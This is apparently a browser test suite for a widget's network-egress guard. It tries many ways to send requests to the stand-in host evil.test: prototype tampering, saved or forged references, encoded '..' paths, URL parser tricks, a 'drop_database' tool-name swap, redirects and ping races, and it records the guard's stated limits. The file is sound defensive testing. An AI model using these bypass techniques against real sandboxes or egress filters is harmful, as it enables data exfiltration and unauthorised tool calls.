// Requests past the guard: sinks it might not know, objects that lie about themselves, tampered
// prototypes, URL parser tricks, redirects, beacons and pings. Each test asserts on what reached
// the loopback servers (`served`, `servedRequests`), never on what a promise in the page says.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { OPTIONS, PAGE_CSP, PAGE_HELPERS, assertNothingLeaked, served, servedRequests, useBrowser, waitForServed } from './helpers.mjs';

const session = useBrowser();
const { open } = session;

test('request sinks beyond fetch and XHR (fetchLater, Cache.add/addAll, WebSocketStream), in the widget and a fresh frame: refused like fetch and WebSocket (guard)', async () => {
  const page = await open();
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
    const evil = (name) => `https://evil.test/adv-sinks/${name}`;
    const cache = await caches.open('adversarial');
    const frameCache = await frame.caches.open('adversarial');
    const outcome = async (fn) => ((await attempt(fn)).error ?? 'sent');
    return {
      fetchLater: await outcome(() => fetchLater(evil('later'), { activateAfter: 0 })),
      fetchLaterFromFrame: await outcome(() => frame.fetchLater(evil('frame-later'), { activateAfter: 0 })),
      add: await outcome(() => cache.add(evil('add'))),
      addAll: await outcome(() => cache.addAll(['https://api.test/v1/adv-sinks/add-all-ok', evil('add-all')])),
      addFromFrame: await outcome(() => frameCache.add(evil('frame-add'))),
      addRedirect: await outcome(() => cache.add('https://api.test/v1/redirect?to=https://evil.test/adv-sinks/add-redirect')),
      stream: await outcome(() => new WebSocketStream('wss://evil.test/adv-sinks/stream')),
      streamFromFrame: await outcome(() => new frame.WebSocketStream('https://evil.test/adv-sinks/frame-stream')),
      // Positive controls: the same sinks reach listed endpoints.
      allowed: [
        await outcome(() => fetchLater('https://api.test/v1/adv-sinks/later-ok', { activateAfter: 0 })),
        await outcome(() => cache.add('https://api.test/v1/adv-sinks/add-ok')),
        await outcome(() => new WebSocketStream('wss://live.test/adv-sinks/stream-ok')),
      ],
    };
  });
  for (const marker of ['api.test/v1/adv-sinks/later-ok', 'api.test/v1/adv-sinks/add-ok', 'live.test/adv-sinks/stream-ok']) await waitForServed(marker);
  assertNothingLeaked('adv-sinks', ['add-all-ok']); // addAll is all or nothing: its listed request was not sent either
  assert.deepEqual(outcomes, {
    fetchLater: 'TypeError', fetchLaterFromFrame: 'TypeError', add: 'TypeError', addAll: 'TypeError', addFromFrame: 'TypeError',
    addRedirect: 'TypeError', stream: 'SecurityError', streamFromFrame: 'SecurityError', allowed: ['sent', 'sent', 'sent'],
  });
  await page.close();
});

test("prototype tampering (Object.prototype members the guard's own Request init would inherit, Symbol.hasInstance on Request and URL, URL and Request getters, Function.prototype.call/apply, Reflect.apply): what is sent is what was decided (guard)", async () => {
  const page = await open(`
    const lie = () => { throw new Error('replaced intrinsic called'); };
    // Request init members the browser reads from any dictionary, inherited ones included.
    Object.assign(Object.prototype, { method: 'DELETE', redirect: 'follow', headers: { 'x-smuggled': '1' } });
    for (const C of [Request, URL, Response]) Object.defineProperty(C, Symbol.hasInstance, { value: () => true });
    Object.defineProperty(URL.prototype, 'href', { get: () => 'https://api.test/v1/adv-proto/lie' });
    Object.defineProperty(Request.prototype, 'url', { get: () => 'https://api.test/v1/adv-proto/lie' });
    Object.defineProperty(Request.prototype, 'method', { get: () => 'GET' });
    Function.prototype.call = Function.prototype.apply = Reflect.apply = lie;`);
  await page.evaluate(async () => {
    await guardReady;
    const settle = (promise) => new Promise((resolve) => promise.then(resolve, resolve));
    navigator.sendBeacon(new URL('https://evil.test/adv-proto/beacon'));
    await settle(fetch('https://api.test/v1/adv-proto/plain'));
    await settle(fetch(new URL('https://evil.test/adv-proto/url-object')));
    await settle(fetch(new Request('https://evil.test/adv-proto/request', { method: 'PUT' })));
    await settle(fetch({ toString: () => 'https://evil.test/adv-proto/to-string' }));
    try { new WebSocket(new URL('wss://evil.test/adv-proto/socket')); } catch (_) {}
    navigator.sendBeacon(new URL('https://api.test/v1/adv-proto/beacon-ok')); // after the refused beacon: the control
  });
  // The allowed request reached the server as a GET with the URL it was decided on; the
  // polluted init's DELETE did not ride along, and nothing reached the unlisted origin.
  await waitForServed('api.test/v1/adv-proto/beacon-ok');
  assert.deepEqual(servedRequests.filter((r) => r.path.includes('adv-proto')).map((r) => `${r.method} ${r.host}${r.path}`).sort(), [
    'GET api.test/v1/adv-proto/plain',
    'POST api.test/v1/adv-proto/beacon-ok',
  ]);
  assertNothingLeaked('adv-proto', ['/lie']);
  await page.close();
});

test('saved references taken after install (XMLHttpRequest send, Navigator sendBeacon, EventSource, window.open, HTMLFormElement submit, Worker, RTCPeerConnection, the contentWindow getter, bound and Reflect-applied fetch, the constructor of an allowed instance): each is the wrapper → refused (guard)', async () => {
  const page = await open(`window.saved = {
    fetch: fetch.bind(window), send: XMLHttpRequest.prototype.send, beacon: Navigator.prototype.sendBeacon, EventSource, open: window.open,
    submit: HTMLFormElement.prototype.submit, Worker, RTCPeerConnection, appendChild: Node.prototype.appendChild,
    contentWindow: Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow').get,
  };`);
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const evil = (name) => `https://evil.test/adv-saved/${name}`;
    const error = async (fn) => (await attempt(fn)).error;
    const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: evil('form'), method: 'post' }));
    const frame = saved.appendChild.call(document.body, document.createElement('iframe'));
    return {
      boundFetch: await error(() => saved.fetch(evil('bound'))),
      reflectApply: await error(() => Reflect.apply(fetch, undefined, [evil('reflect')])),
      xhrSend: await error(() => { const xhr = new XMLHttpRequest(); xhr.open('GET', evil('xhr')); saved.send.call(xhr); }),
      beacon: saved.beacon.call(navigator, evil('beacon')),
      eventSource: await error(() => new saved.EventSource(evil('event-source'))),
      allowedInstanceConstructor: await error(() => { const allowed = new EventSource('/events'); allowed.close(); return new allowed.constructor(evil('constructor')); }),
      socketPrototypeConstructor: await error(() => new (Object.getPrototypeOf(new WebSocket('wss://live.test/adv-saved')).constructor)('wss://evil.test/adv-saved/socket')),
      open: saved.open(evil('open')),
      submit: (saved.submit.call(form), 'called'),
      worker: await error(() => new saved.Worker(URL.createObjectURL(new Blob([`fetch('${evil('worker')}')`])))),
      rtc: await error(() => new saved.RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.test' }] })),
      frameFetch: await error(() => saved.contentWindow.call(frame).fetch(evil('frame'))),
      allowed: await error(() => saved.fetch('https://api.test/v1/adv-saved/ok')),
    };
  });
  await waitForServed('api.test/v1/adv-saved/ok');
  assertNothingLeaked('adv-saved');
  assert.deepEqual(outcomes, {
    boundFetch: 'TypeError', reflectApply: 'TypeError', xhrSend: 'NetworkError', beacon: false, eventSource: 'SecurityError',
    allowedInstanceConstructor: 'SecurityError', socketPrototypeConstructor: 'SecurityError', open: null, submit: 'called',
    worker: 'SecurityError', rtc: 'SecurityError', frameFetch: 'TypeError', allowed: undefined,
  });
  await page.close();
});

test('subclasses and forged `this` (subclasses of the wrapped constructors, an XMLHttpRequest subclass that skips open, a Request or URL from another realm or with a lying href, fetch/open/sendBeacon called on another object): what is checked is what is sent (guard)', async () => {
  const page = await open();
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const evil = (name) => `https://evil.test/adv-forged/${name}`;
    const error = async (fn) => (await attempt(fn)).error;
    const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
    class LyingURL extends URL { get href() { return 'https://api.test/v1/adv-forged/lie'; } }
    return {
      socketSubclass: await error(() => new (class extends WebSocket {})('wss://evil.test/adv-forged/socket')),
      eventSourceSubclass: await error(() => new (class extends EventSource {})(evil('event-source'))),
      newTargetElsewhere: await error(() => Reflect.construct(WebSocket, ['wss://evil.test/adv-forged/new-target'], frame.WebSocket)),
      xhrSkippingOpen: await error(() => { const xhr = new (class extends XMLHttpRequest { open() {} })(); xhr.open('GET', evil('xhr')); xhr.send(); }),
      otherRealmsRequest: await error(() => fetch(new frame.Request(evil('frame-request')))),
      lyingURL: await error(() => fetch(new LyingURL(evil('lying-url')))),
      fetchOnFrame: await error(() => fetch.call(frame, evil('fetch-this'))),
      openOnFrame: window.open.call(frame, evil('open-this')),
      beaconOnObject: navigator.sendBeacon.call({}, evil('beacon-this')),
      beaconOnFrame: Navigator.prototype.sendBeacon.call(frame.navigator, evil('beacon-frame')),
      allowed: await error(() => fetch(new frame.Request('https://api.test/v1/adv-forged/ok'))),
    };
  });
  await waitForServed('api.test/v1/adv-forged/ok');
  assertNothingLeaked('adv-forged', ['/lie']);
  assert.deepEqual(outcomes, {
    socketSubclass: 'SecurityError', eventSourceSubclass: 'SecurityError', newTargetElsewhere: 'SecurityError', xhrSkippingOpen: 'NetworkError',
    otherRealmsRequest: 'TypeError', lyingURL: 'TypeError', fetchOnFrame: 'TypeError', openOnFrame: null, beaconOnObject: false,
    beaconOnFrame: false, allowed: undefined,
  });
  await page.close();
});

test('values the guard reads once and the browser again (an XMLHttpRequest method whose toString changes, an open() that throws after an earlier one, a tool name whose toString changes): what is checked is what is sent (guard)', async () => {
  const page = await session.browser.open({
    options: { ...OPTIONS, tools: ['search'] },
    csp: PAGE_CSP,
    head: `<script>window.hostLog = []; window.openai = { callTool: async (name) => { hostLog.push(name); return name; } };</script>`,
    afterInstall: PAGE_HELPERS,
  });
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const changing = (first, then) => { let reads = 0; return { toString: () => (reads++ ? then : first) }; };
    const sent = (xhr) => new Promise((resolve) => { xhr.onloadend = () => resolve(xhr.status); xhr.send(); });
    const method = new XMLHttpRequest();
    method.open(changing('GET', 'DELETE'), 'https://api.test/v1/adv-twice/method');
    const reopened = new XMLHttpRequest();
    reopened.open('GET', 'https://evil.test/adv-twice/reopen');
    let reopenError;
    try { reopened.open('BAD METHOD', 'https://cdn.test/adv-twice/ok'); } catch (error) { reopenError = error.name; }
    return {
      method: await sent(method),
      reopenError,
      reopen: await attempt(() => reopened.send()).then((outcome) => outcome.error),
      tool: await openai.callTool(changing('search', 'drop_database')).catch((error) => error.message),
      hostLog,
    };
  });
  await waitForServed('api.test/v1/adv-twice/method');
  assertNothingLeaked('adv-twice');
  assert.deepEqual(servedRequests.filter((request) => request.path.includes('adv-twice')).map((request) => request.method), ['GET']);
  assert.deepEqual(outcomes, { method: 200, reopenError: 'SyntaxError', reopen: 'NetworkError', tool: 'search', hostLog: ['search'] });
  await page.close();
});

test('paths that hide a `..` segment from a path rule (`..%2F`, `%2e%2e%2f`, `..%5C`, `..;`), which CSP reads as under /v1/ and servers that decode them do not → refused; encoded slashes that form no `..` pass (guard)', async () => {
  const page = await open();
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const paths = ['/v1/..%2Fadv-hidden', '/v1/%2e%2e%2fadv-hidden', '/v1/..%5Cadv-hidden', '/v1/..;/adv-hidden', '/v1/adv-hidden/group%2Fproject'];
    const outcomes = {};
    for (const path of paths) outcomes[path] = (await attempt(() => fetch('https://api.test' + path))).error ?? 'sent';
    return outcomes;
  });
  assert.deepEqual(outcomes, {
    '/v1/..%2Fadv-hidden': 'TypeError', '/v1/%2e%2e%2fadv-hidden': 'TypeError', '/v1/..%5Cadv-hidden': 'TypeError', '/v1/..;/adv-hidden': 'TypeError',
    '/v1/adv-hidden/group%2Fproject': 'sent',
  });
  assert.deepEqual(served.filter((request) => request.includes('adv-hidden')), ['api.test/v1/adv-hidden/group%2Fproject']);
  await page.close();
});

/** The guard's policy (OPTIONS), restated for the servers' log: what an allowed request looks like when it arrives. */
function allowedByOptions({ host, path, method }) {
  if (host === 'api.test') return path.startsWith('/v1/') && (method === 'GET' || method === 'POST' || method === 'OPTIONS');
  return host === 'cdn.test' || host === 'live.test' || (host === 'widget.test' && path === '/events');
}

test('URL parser tricks, through fetch, XMLHttpRequest, EventSource, sendBeacon and WebSocket: every request that reaches a server is one the allow-list allows (guard; the browser\'s own parser decides)', async () => {
  const tricks = {
    backslashes: 'https:\\\\evil.test\\adv-url\\backslashes',
    tab: 'https://ev\til.test/adv-url/tab',
    percentHost: 'https://%65vil.test/adv-url/percent-host',
    encodedDotInHost: 'https://api.test%2eevil.test/v1/adv-url/encoded-dot',
    protocolRelative: '//evil.test/adv-url/protocol-relative',
    schemeRelative: 'https:evil.test/adv-url/scheme-relative',
    backslashAt: 'https://api.test\\@evil.test/v1/adv-url/backslash-at',
    fragmentAt: 'https://api.test#@evil.test/v1/adv-url/fragment-at',
    suffixHost: 'https://api.test.evil.test/v1/adv-url/suffix-host',
    urlInPath: 'https://evil.test/v1/adv-url/https://api.test/v1/',
    dotDot: 'https://api.test/v1/../adv-url/dot-dot',
    encodedDotDot: 'https://api.test/v1/%2e%2e/adv-url/encoded-dot-dot',
    otherPort: 'https://api.test:8443/v1/adv-url/other-port',
    trailingDot: 'https://api.test./v1/adv-url/trailing-dot',
    hexIp: 'https://0x7f.1/v1/adv-url/hex-ip',
    mappedIpv6: 'https://[::ffff:7f00:1]/v1/adv-url/ipv6',
    encodedSlash: 'https://api.test/v1/%2e%2e%2fadv-url/encoded-slash', // a hidden `..` (see the test above)
    // Positive controls: these are the listed origin, however written.
    defaultPort: 'https://api.test:443/v1/adv-url/default-port',
    fullwidth: 'https://ａｐｉ.test/v1/adv-url/fullwidth',
    uppercase: 'HTTPS://API.TEST/v1/adv-url/uppercase',
  };
  const page = await open();
  await page.evaluate(async (urls) => {
    await guardReady;
    const settle = (fn) => new Promise((resolve) => { try { Promise.resolve(fn()).then(resolve, resolve); } catch (_) { resolve(); } });
    for (const url of Object.values(urls)) {
      await settle(() => fetch(url));
      await settle(() => new Promise((resolve, reject) => { const xhr = new XMLHttpRequest(); xhr.open('POST', url); xhr.onloadend = resolve; xhr.send('x'); }));
      await settle(() => new Promise((resolve) => { const source = new EventSource(url); source.onerror = source.onmessage = () => { source.close(); resolve(); }; }));
      await settle(() => navigator.sendBeacon(url, 'x'));
      await settle(() => new WebSocket(url).close());
    }
    await fetch('https://api.test/v1/adv-url/done');
  }, tricks);
  // The listed origin however written arrives.
  for (const path of ['adv-url/default-port', 'adv-url/fullwidth', 'adv-url/uppercase', 'adv-url/done']) await waitForServed(`api.test/v1/${path}`);
  const arrived = servedRequests.filter((request) => request.path.includes('adv-url'));
  assert.deepEqual(arrived.filter((request) => !allowedByOptions(request) || request.path.includes('%2e%2e')), [], 'a request the allow-list does not allow reached a server');
  assertNothingLeaked('adv-url');
  await page.close();
});

test('stated limit, redirects the guard cannot refuse: XMLHttpRequest, EventSource and sendBeacon follow an allowed URL\'s redirect unchecked by the guard (an allow-listed origin\'s forbidden path is reached); under the generated CSP, connect-src stops a redirect to an unlisted origin (browser CSP)', async () => {
  /** In the page: each sink asks https://api.test/v1/redirect (allowed) to redirect to `target`/<sink>. */
  const followRedirects = async (page, target) => page.evaluate(async (target) => {
    await guardReady;
    const url = (sink) => `https://api.test/v1/redirect?to=${encodeURIComponent(`${target}-${sink}`)}`;
    await new Promise((resolve) => { const xhr = new XMLHttpRequest(); xhr.open('GET', url('xhr')); xhr.onloadend = resolve; xhr.send(); });
    await new Promise((resolve) => { const source = new EventSource(url('event-source')); source.onerror = source.onmessage = () => { source.close(); resolve(); }; });
    navigator.sendBeacon(url('beacon'), 'x');
  }, target);
  // The guard alone: the redirect's target answers to nothing in the page (the documented limit).
  const guardOnly = await open();
  await followRedirects(guardOnly, 'https://api.test/adv-redirect/admin');
  for (const sink of ['xhr', 'event-source', 'beacon']) await waitForServed(`api.test/adv-redirect/admin-${sink}`);
  await guardOnly.close();
  // Under the generated CSP, the browser checks the redirect's target against connect-src.
  const underCsp = await session.openUnderCsp();
  await followRedirects(underCsp, 'https://evil.test/adv-redirect/target');
  // Chromium reports a blocked redirect under the URL first requested, so as not to reveal where it pointed.
  assert.deepEqual(await underCsp.evaluate(() => cspBlocked(3)), Array(3).fill('connect-src https://api.test/v1/redirect'));
  assertNothingLeaked('adv-redirect/target');
  await underCsp.close();
});

test('navigator.sendBeacon: a relative URL under <base href>, a fresh frame\'s navigator, a URL object that changes its mind, a preflighted body → refused (false), or sent exactly as checked (guard)', async () => {
  const page = await open();
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
    let reads = 0;
    const shifty = { toString: () => (reads++ === 0 ? 'https://api.test/v1/adv-beacon/checked' : 'https://evil.test/adv-beacon/shifty') };
    const outcomes = {
      frameNavigator: frame.navigator.sendBeacon('https://evil.test/adv-beacon/frame', 'x'),
      preflighted: navigator.sendBeacon('https://evil.test/adv-beacon/json', new Blob(['{}'], { type: 'application/json' })),
      shifty: navigator.sendBeacon(shifty, 'x'),
    };
    document.head.appendChild(Object.assign(document.createElement('base'), { href: 'https://evil.test/adv-beacon/' }));
    outcomes.relativeUnderBase = navigator.sendBeacon('relative', 'x');
    return outcomes;
  });
  await waitForServed('api.test/v1/adv-beacon/checked'); // the URL object was read once: what was checked was sent
  assertNothingLeaked('adv-beacon');
  assert.deepEqual(outcomes, { frameNavigator: false, preflighted: false, shifty: true, relativeUnderBase: false });
  await page.close();
});

test('<a ping>: <area ping>, a fresh frame\'s link, a relative ping under <base href>, a mixed list → only listed ping URLs are sent (guard); stated limit: a ping attribute changed by a later click listener is sent unchecked by the guard, and under the generated CSP connect-src stops it (browser CSP)', async () => {
  /** In the page: clicks links whose pings go to evil.test/<marker>/… and, raced by a later listener, to evil.test and a forbidden path. */
  const clickAll = (page, marker) => page.evaluate(async (marker) => {
    await guardReady;
    const evil = (name) => `https://evil.test/${marker}/${name}`;
    const click = (element) => element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    document.body.innerHTML = `
      <a id="mixed" href="#1" ping="${evil('mixed')} https://api.test/v1/${marker}/mixed-ok">mixed</a>
      <map name="m"><area id="area" shape="default" href="#2" ping="${evil('area')}"></map>
      <a id="raced" href="#3" ping="https://api.test/v1/${marker}/raced-checked">raced</a>`;
    click(document.getElementById('mixed'));
    click(document.getElementById('area'));
    const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
    frame.document.body.innerHTML = `<a href="#4" ping="${evil('frame')}">frame</a>`;
    click(frame.document.querySelector('a'));
    const base = document.head.appendChild(Object.assign(document.createElement('base'), { href: evil('') }));
    const relative = document.body.appendChild(Object.assign(document.createElement('a'), { href: '#5' }));
    relative.setAttribute('ping', 'relative');
    click(relative);
    base.remove();
    // The browser reads the ping attribute after the click event: a listener after the guard's wins.
    const raced = document.getElementById('raced');
    raced.addEventListener('click', () => raced.setAttribute('ping', `${evil('raced')} https://api.test/${marker}/raced-admin`));
    click(raced);
  }, marker);

  const guardOnly = await open();
  await clickAll(guardOnly, 'adv-ping-guard');
  for (const marker of ['api.test/v1/adv-ping-guard/mixed-ok', 'api.test/adv-ping-guard/raced-admin', 'evil.test/adv-ping-guard/raced']) await waitForServed(marker);
  assert.deepEqual(served.filter((r) => r.startsWith('evil.test/adv-ping-guard')), ['evil.test/adv-ping-guard/raced'], 'only the raced ping got past the guard alone (stated limit)');
  await guardOnly.close();

  const underCsp = await session.openUnderCsp();
  await clickAll(underCsp, 'adv-ping-csp');
  assert.deepEqual(await underCsp.evaluate(() => cspBlocked(1, 'connect-src')), ['connect-src https://evil.test/adv-ping-csp/raced']);
  await waitForServed('api.test/v1/adv-ping-csp/mixed-ok');
  assertNothingLeaked('adv-ping-csp');
  await underCsp.close();
});
